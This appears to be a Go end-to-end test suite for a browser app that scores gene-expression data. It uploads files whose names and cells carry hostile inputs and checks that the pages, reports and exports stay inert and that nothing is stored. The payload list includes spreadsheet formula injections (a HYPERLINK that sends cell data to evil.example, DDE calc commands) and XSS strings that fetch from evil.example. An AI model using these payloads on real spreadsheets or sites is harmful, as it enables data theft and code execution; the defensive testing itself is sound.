package e2e

import (
	"bytes"
	"fmt"
	"maps"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"ifnscope/score/demo"
)

// hostile are names that do something where they are not taken for text.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"open")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+WEBSERVICE("http://evil.example/")`,
	`-2+3+cmd|' /C calc'!A0`,
	`<img src=http://evil.example/a.png onerror="window.pwned=1">`,
	`<script>window.pwned=1;fetch('http://evil.example/')</script>`,
	`<svg onload="window.pwned=1"><image href=http://evil.example/b.png /></svg>`,
	`</title></style></textarea><iframe src=http://evil.example/></iframe>`,
	`javascript:window.pwned=1`,
	`url(http://evil.example/c.png)`,
	`http://evil.example/d?patient=1`,
	"\u202eELS\u202c \u200b\u200d\ufeff zero",
	"&lt;b&gt; &amp;quot; ]]> --> ${7*7} {{7*7}} %s%n",
	"__proto__",
	"x" + strings.Repeat("W", 20_000),
}

// hostileFiles are an expression table and a sample table whose names, columns
// and cells are hostile.
func hostileFiles(b *tab) []string {
	quote := func(s string) string { return `"` + strings.ReplaceAll(s, `"`, `""`) + `"` }
	samples := numbered("HC%d", 5)
	for i, h := range hostile {
		samples = append(samples, fmt.Sprintf("%s #%d", h, i))
	}
	genes := append(slices.Clone(isgs), numbered("background-%d", 400)...)
	for i, h := range hostile[:14] {
		genes[30+i] = h
	}
	names := slices.Clone(samples)
	for i := range names {
		names[i] = quote(names[i])
	}
	for i := range genes {
		genes[i] = quote(genes[i])
	}
	var clinical strings.Builder
	clinical.WriteString("sample,group,visit,sledai," + quote(hostile[4]) + "," + quote(hostile[5]) + "," + quote(hostile[0]) + "\n")
	for i, s := range names {
		group := "SLE"
		if i < 5 {
			group = "healthy control"
		}
		fmt.Fprintf(&clinical, "%s,%s,%d,%d,%s,%s,%d\n", s, group, 1+i%2, i, []string{"yes", "no"}[i%2], quote(hostile[i%14]), i)
	}
	return []string{b.file("hostile.tsv", table(genes, names)), b.file("people.csv", []byte(clinical.String()))}
}

// quiet asserts that nothing of a hostile file ran, loaded or broke the layout
// of the page that is shown.
func (b *tab) quiet(where string) {
	b.t.Helper()
	for what, bad := range map[string]string{
		"a script ran":              `!!window.pwned`,
		"an element was made of it": `!!document.querySelector('img[src*="evil"], iframe, object, embed, script:not([src]), [onerror], [onload], a[href*="evil"], a[href^="javascript"], image[href*="evil"], [style]')`,
		"the title names it":        `/evil|SLE|HC1|WWWW/.test(document.title)`,
		"the address names it":      `location.search !== "" || location.hash.length > 20`,
	} {
		if eval[bool](b, bad) {
			b.t.Errorf("%s: %s", where, what)
		}
	}
	for _, width := range []int64{1280, 390} {
		b.look(width, 900, "light")
		if over := eval[string](b, `(() => {
			const most = document.documentElement.clientWidth + 1;
			if (document.documentElement.scrollWidth <= most) return "";
			const text = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
			for (let n; (n = text.nextNode());) { // text may be wider than its element
				const range = document.createRange();
				range.selectNode(n);
				if (range.getBoundingClientRect().right > most && !n.parentElement.closest(".scroll, svg")) return document.documentElement.scrollWidth + " px: " + n.parentElement.outerHTML.slice(0, 200);
			}
			return document.documentElement.scrollWidth + " px";
		})()`); over != "" {
			b.t.Errorf("%s: at %d px the page is wider than the screen, %s", where, width, over)
		}
	}
	b.look(1280, 900, "light")
}

// TestHostile opens files whose names, columns and cells are made to run, to
// load or to break the page, goes the whole way to the printed reports and to
// every page beside it, and saves everything.
func TestHostile(t *testing.T) {
	b := visit(t, serve(t), "/")
	b.ready()
	b.watch()
	b.guard()
	mark := b.mark()
	vcf, _, _ := genotypes()
	files := append(hostileFiles(b), b.file("<img src=x onerror=pwned=1>.vcf", bytes.ReplaceAll(vcf, []byte(zebra), []byte(hostile[4]+" #4"))))
	b.files(files...)
	b.wait("the files are read", `location.pathname === "/check" && !!document.querySelector("#score")`)
	b.lockedFirst()
	b.text("5 healthy controls")
	b.quiet("check")
	saved := map[string][]byte{}
	saves := func(id string) { maps.Copy(saved, b.exports(id)) }
	saves(`main button[id^="export-"]`)
	b.press("See the genotypes")
	b.wait("the panel is shown", `location.pathname === "/genotype" && !!document.querySelector("#geno-score")`)
	b.quiet("genotype")
	saves(`main button[id^="export-"]`)
	b.press("2\nCheck")
	b.press("Quality of the samples")
	b.wait("the samples are compared", `!!document.getElementById("judged") && document.querySelectorAll("figure svg.chart").length === 2`)
	b.quiet("quality")
	saves(figures)
	b.press("Back to Check")
	b.tap("#score:not([disabled])")
	b.results("the results are shown")
	b.quiet("results")
	for i := range 3 { // people, one after the other
		b.tap(fmt.Sprintf(`table.scores tbody tr:nth-child(%d) button`, 1+4*i))
		b.wait("a sample is shown", `!!document.getElementById("person")`)
		b.quiet("a person")
	}
	saves(figures)
	saves(`main button[id^="export-"]`)
	b.click("#report-person")
	b.wait("the report of a person is there", `document.querySelector(".report h1")?.innerText.startsWith("ISG expression report: ")`)
	b.quiet("report of a person")
	saves("#export-report")
	b.printed()
	b.empty("#report-sample")
	b.wait("the report of the cohort is there", `document.querySelector(".report h1")?.innerText === "ISG expression report of a cohort"`)
	b.quiet("report of the cohort")
	saves("#export-report")
	b.printed()
	b.press("3\nResults")
	b.press("Cohort: agreement, visits, cut-offs")
	b.wait("the cohort is compared", `!!document.querySelector("#agreement table")`)
	b.quiet("cohort")
	saves("#export-cohort")
	saves(figures)
	b.press("3\nResults\ncohort")
	b.click("#to-pathway")
	b.wait("the map is drawn", `location.pathname === "/pathway" && !!document.querySelector("#figure-pathway-map [data-node=pdc]")`)
	b.quiet("pathway")
	saves(figures)
	saves(`main button[id^="export-"]`)
	for _, page := range []string{"Signatures", "Methods", "Privacy", "About"} {
		b.press(page)
		b.wait(page+" is shown", `!!document.querySelector("main h1")`)
		b.quiet(page)
	}
	kinds := map[string]int{}
	for name, content := range saved {
		kinds[filepath.Ext(name)]++
		b.harmless(name, content)
	}
	for _, kind := range []string{".tsv", ".csv", ".json", ".txt", ".bib", ".ris", ".gmt", ".xlsx", ".zip", ".html", ".svg"} {
		if kinds[kind] == 0 {
			t.Errorf("no %s was saved: %q", kind, slices.Sorted(maps.Keys(saved)))
		}
	}
	if kinds[".svg"] < 8 || kinds[".xlsx"] < 2 || kinds[".html"] < 2 {
		t.Errorf("only these were saved: %q", slices.Sorted(maps.Keys(saved)))
	}
	if sent := b.sent(mark); len(sent) > 0 {
		t.Errorf("these were asked for: %v", sent)
	}
}

// TestHostileLength goes with a sample of a name that no screen holds to its
// panel and to its report, where TestHostile goes with others, from a table that
// alone says who the samples are.
//
// A name has 20,000 characters here. One of 1 MB is refused, and the page stays
// as it is; app/desk does that in every format.
func TestHostileLength(t *testing.T) {
	b := revisit(t)
	b.ready()
	genes := append(numbered("background-%d", 100), isgs...)
	b.files(b.file("refused.csv", []byte("sample,"+strings.Join(genes, ",")+"\n"+strings.Repeat("x", 1<<20)+strings.Repeat(",7.5", len(genes))+"\nHC1"+strings.Repeat(",8.5", len(genes))+"\n")))
	b.text("refused.csv: the name of sample 1 has 1048576 characters; it begins with")
	b.quiet("a name of 1 MB")
	b.shot("refused", func() {})
	giant := "x" + strings.Repeat("W", 20_000)
	samples := append(numbered("HC%d", 5), append(numbered("SLE%d", 5), giant)...)
	b.files(b.file("giant.tsv", table(append(numbered("background-%d", 400), append(isgs, "y"+giant)...), samples)))
	b.wait("the file is read", `location.pathname === "/check" && !!document.querySelector("#score:not([disabled])")`)
	b.quiet("check")
	b.tap("#score:not([disabled])")
	b.results("the results are shown")
	b.quiet("results")
	b.wait("its row is pressed", `(e => (e?.click(), !!e))([...document.querySelectorAll("table.scores tbody button")].find(e => e.textContent.startsWith("xWWW")))`)
	b.wait("the sample is shown", `document.getElementById("person")?.textContent.includes("xWWW")`)
	b.quiet("a person")
	saved := b.exports(figures)
	maps.Copy(saved, b.exports("#export-xlsx"))
	b.click("#report-person")
	b.wait("the report is there", `document.querySelector(".report h1")?.textContent.includes("xWWW")`)
	b.quiet("report of a person")
	maps.Copy(saved, b.exports("#export-report"))
	b.printed()
	kinds := map[string]bool{}
	for name, content := range saved {
		kinds[filepath.Ext(name)] = true
		b.harmless(name, content)
	}
	for _, kind := range []string{".svg", ".xlsx", ".html"} {
		if !kinds[kind] {
			t.Errorf("no %s was saved: %q", kind, slices.Sorted(maps.Keys(saved)))
		}
	}
}

// TestNothingIsKept uses the app with files of a person and looks at every
// place where a browser could have kept something.
func TestNothingIsKept(t *testing.T) {
	s := serve(t)
	b := visit(t, s, "/")
	b.ready()
	var files []string
	for _, f := range demo.Files() {
		files = append(files, b.file("visit-"+f.Name, demo.Bytes(f.Name)))
	}
	b.drop(files...)
	b.wait("the files are read", `location.pathname === "/check" && !!document.querySelector("#score")`)
	b.tap("#score:not([disabled])")
	b.results("the results are shown")
	b.tap(`table.scores tbody tr button`)
	b.wait("a sample is shown", `!!document.getElementById("person")`)
	b.exports(`main button[id^="export-"]`)
	for what, kept := range map[string]string{
		"a cookie":               `document.cookie`,
		"local storage":          `JSON.stringify({...localStorage}).slice(2, -1)`,
		"session storage":        `JSON.stringify({...sessionStorage}).slice(2, -1)`,
		"a database":             `indexedDB.databases().then((l) => l.map((d) => d.name).join())`,
		"a file of the origin":   `navigator.storage.getDirectory().then(async (d) => { const l = []; for await (const k of d.keys()) l.push(k); return l.join(); })`,
		"the state of a history": `JSON.stringify(history.state ?? "").slice(1, -1)`,
		"the name of the window": `window.name`,
		"the address":            `location.search + location.hash`,
		"the title":              `/SLE|HC|visit-/.test(document.title) ? document.title : ""`,
		"another worker":         `navigator.serviceWorker.getRegistrations().then((l) => l.length > 1 ? l.length + " registrations" : "")`,
	} {
		if v := eval[string](b, kept); v != "" {
			t.Errorf("%s keeps %q", what, v)
		}
	}
	for _, kept := range eval[[]string](b, `caches.keys().then(async (names) => {
		const l = [];
		for (const n of names) for (const r of await (await caches.open(n)).keys()) l.push(n + " " + r.method + " " + new URL(r.url).pathname + new URL(r.url).search);
		return l;
	})`) {
		f := strings.Fields(kept)
		if len(f) != 3 || !strings.HasPrefix(f[0], "ifnscope-") || f[1] != "GET" || strings.ContainsAny(f[2], "?=") || strings.Contains(f[2], "visit-") {
			t.Errorf("the cache keeps %q", kept)
		}
	}
	b.mu.Lock()
	said := strings.Join(b.console, "\n")
	b.mu.Unlock()
	if said != "" {
		t.Errorf("the console says %q", said)
	}
	b.reload()
	b.text("Nothing is scored yet")
}
